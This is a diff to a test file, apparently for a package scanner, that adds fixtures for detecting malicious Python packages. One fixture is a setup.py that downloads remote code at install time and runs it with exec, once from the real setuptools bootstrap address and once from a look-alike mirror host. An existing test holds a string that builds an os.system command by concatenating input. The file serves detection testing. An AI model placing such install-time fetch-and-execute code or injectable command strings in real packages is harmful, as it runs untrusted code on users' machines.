@@ -482,3 +482,20 @@ test('an answer that is evaluated with a bracket put behind it is read like one 
   expect(await of('str(item)')).toEqual([['suspicious', 3]]);
   expect(await of('\'__import__("os").system("\' + item + \'")\'')).toEqual([['malware', 9]]);
 });
+
+test.each([
+  ['https://bootstrap.pypa.io/ez_setup.py', 'suspicious'],
+  ['https://bootstrap.pypa.io.mirror.invalid/ez_setup.py', 'malware'],
+])('the bootstrap of setuptools that a build runs is no harm, another address is: %s', async (address, expected) => {
+  const file = sdist({
+    'setup.py': python(
+      'from urllib.request import urlopen',
+      'ez = {}',
+      `exec(urlopen('${address}').read(), ez)`,
+      'from setuptools import setup',
+      "setup(name='example')",
+    ),
+  });
+
+  expect(await inspect('remote-code', file)).toMatchObject([{ class: expected, context: 'install' }]);
+});
